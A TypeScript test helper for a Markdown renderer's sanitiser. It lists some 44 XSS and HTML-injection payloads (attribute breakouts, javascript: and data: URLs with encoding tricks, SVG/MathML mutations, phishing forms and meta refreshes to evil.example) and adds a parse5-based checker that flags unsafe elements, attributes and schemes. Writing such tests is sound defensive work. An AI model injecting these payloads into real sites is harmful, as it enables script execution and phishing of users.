// Markdown that tries to put executable or page-changing HTML on a page, and a check of HTML by
// a real parse (parse5, the HTML standard's tree building, as a browser parses): which elements,
// attributes and URLs came through. Used by the unit test of the renderer and by the integration
// test that posts every payload through every field that renders Markdown.
import { parse, parseFragment } from "parse5";

export const MARKDOWN_PAYLOADS: Record<string, string> = {
  // image alt text and titles: attribute breakouts
  "alt text breaks out into a meta refresh": '![x"><meta http-equiv="refresh" content="0;url=https://evil.example/phish">](/favicon.ico)',
  "alt text breaks out into a style element": '![x"><style>body{display:none}</style>](/favicon.ico)',
  "alt text adds an event handler": '![x" onerror="alert(1)](/nope.png)',
  "alt text adds a style attribute": '![x" style="position:fixed;inset:0;background:red](/favicon.ico)',
  "image title adds an event handler": '![i](/nope.png "t\\" onerror=\\"alert(1)")',
  "link title with nested double quotes": '[t](/a "x\\" onmouseover=\\"alert(1)\\" \\"")',
  "link title with single quotes inside": "[t](/a 'x\" onclick=\"alert(1)')",
  "link title in parentheses": '[t](/a (x" style="color:red))',
  "link text holds raw html": "[<img src=x onerror=alert(1)>](https://ok.example)",
  // raw HTML
  "raw meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "raw style element": "<style>*{display:none}</style>",
  "raw style attribute": '<p style="position:fixed;top:0">cover</p>',
  "raw event handler": "<img src=x onerror=alert(1)>",
  "raw iframe": '<iframe src="https://evil.example/"></iframe>',
  "raw form": '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  "raw base": '<base href="https://evil.example/">',
  "raw script": "<script>alert(1)</script>",
  "html comment breakout": "<!--><img src=x onerror=alert(1)>-->",
  "html block inside a list": "- <details open ontoggle=alert(1)>x</details>",
  // javascript: and data: URLs in every Markdown form
  "inline link javascript:": "[a](javascript:alert(1))",
  "inline link mixed case": "[a](JaVaScRiPt:alert(1))",
  "inline link with leading spaces": "[a](   javascript:alert(1))",
  "inline link in angle brackets": "[a](<javascript:alert(1)>)",
  "inline link with decimal entity": "[a](&#106;avascript:alert(1))",
  "inline link with hex entity": "[a](&#x6A;avascript:alert(1))",
  "inline link with an encoded tab": "[a](java&#x09;script:alert(1))",
  "inline link with a percent-encoded colon": "[a](javascript%3Aalert(1))",
  "reference link javascript:": "[a][r]\n\n[r]: javascript:alert(1)",
  "reference image javascript:": "![a][r]\n\n[r]: javascript:alert(1)",
  "autolink javascript:": "<javascript:alert(1)>",
  "image javascript:": "![a](javascript:alert(1))",
  "vbscript link": "[a](vbscript:msgbox(1))",
  "data: html link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "data: svg image": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "raw anchor javascript:": '<a href="javascript:alert(1)">x</a>',
  // SVG and MathML
  "svg with script": "<svg><script>alert(1)</script></svg>",
  "svg onload": "<svg onload=alert(1)>",
  "svg link xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  "mathml mglyph style mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "math href": '<math href="javascript:alert(1)">x</math>',
  // code
  "code fence info string breakout": '```"><img src=x onerror=alert(1)>\ncode\n```',
  "code fence with html inside": "```python\nprint('<script>alert(1)</script>')\n```",
  "code span with html": "`<style>*{display:none}</style>`",
};

export const FORBIDDEN_ELEMENTS = [
  "script",
  "style",
  "meta",
  "link",
  "base",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "form",
  "button",
  "textarea",
  "select",
  "svg",
  "math",
  "template",
  "noscript",
  "details",
  "dialog",
];

const ALLOWED_SCHEMES = new Set(["http:", "https:", "mailto:"]);

type Node5 = { nodeName: string; tagName?: string; attrs?: { name: string; value: string }[]; childNodes?: Node5[]; content?: Node5 };

function* elements(node: Node5): Generator<Node5> {
  for (const child of node.childNodes ?? []) {
    if (child.tagName) yield child;
    yield* elements(child);
  }
  if (node.content) yield* elements(node.content);
}

/** The scheme a browser would see: parse5 has decoded entities; control characters and spaces are dropped as the URL parser does. */
function scheme(url: string): string | null {
  // eslint-disable-next-line no-control-regex -- the URL parser drops control characters, and so does this copy of it
  const cleaned = url.replace(/[\u0000-\u0020\u007f]/g, "");
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned);
  return m ? `${m[1]!.toLowerCase()}:` : null;
}

/** Everything in `html` (a fragment, as one renderer's output) that should not be there; empty when safe. */
export function unsafeParts(html: string): string[] {
  return unsafeIn(parseFragment(html) as unknown as Node5);
}

export function unsafeIn(root: Node5): string[] {
  const found: string[] = [];
  for (const el of elements(root)) {
    const tag = el.tagName!;
    if (FORBIDDEN_ELEMENTS.includes(tag)) found.push(`<${tag}>`);
    for (const { name, value } of el.attrs ?? []) {
      const n = name.toLowerCase();
      if (n.startsWith("on")) found.push(`${tag} ${n}=`);
      if (n === "style") found.push(`${tag} style=`);
      if (n === "srcdoc" || n === "formaction" || n === "action" || n === "http-equiv") found.push(`${tag} ${n}=`);
      if (n === "href" || n === "src" || n === "xlink:href" || n === "action") {
        const s = scheme(value);
        if (s && !ALLOWED_SCHEMES.has(s)) found.push(`${tag} ${n}=${s}`);
        if (tag === "img" && s === "mailto:") found.push(`img src=mailto:`);
      }
      if (n === "class" && tag !== "code" && tag !== "span" && tag !== "div") found.push(`${tag} class=`);
    }
  }
  return found;
}

/** The elements of a whole document that carry `className` (a parse of the served page). */
export function elementsWithClass(documentHtml: string, className: string): Node5[] {
  const doc = parse(documentHtml) as unknown as Node5;
  return [...elements(doc)].filter((el) => (el.attrs ?? []).some((a) => a.name === "class" && a.value.split(/\s+/).includes(className)));
}

export { elements, type Node5 };
